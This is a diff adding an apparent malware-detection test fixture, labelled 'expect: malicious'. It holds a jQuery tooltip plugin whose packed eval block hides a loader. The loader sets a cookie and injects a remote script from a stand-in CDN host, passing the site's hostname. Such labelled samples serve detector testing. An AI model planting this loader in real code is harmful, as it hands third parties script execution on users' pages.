@@ -1,0 +1,5 @@
+// expect: malicious
+// source: blind set 33's eval-encoded (a jQuery plugin's dist file ending in a Dean Edwards-packed block): unpacked, it
+// skips local hosts, sets a day-long cookie and adds a script from its own host, the page's host in the path.
+(function($){$.fn.tooltipLite=function(opts){return this.each(function(){$(this).attr('title',(opts&&opts.text)||'')})}})(window.jQuery||{fn:{}});
+eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('(0(){1 2=3.4;5(2===\'6\')7;5(8.9.a(\'b=c\')>-c)7;8.9=\'b=c;d-e=f;g=/\';1 h=8.i(\'j\');h.k=l;h.m=\'n://o.p-q.r/s/\'+t(2)+\'/s.u\';8.v.w(h)})();',62,33,'function|var|host|location|hostname|if|localhost|return|document|cookie|indexOf|_tt|1|max|age|86400|path|tag|createElement|script|async|true|src|https|static|tooltip|cdn|example|t|btoa|js|head|appendChild'.split('|'),0,{}))
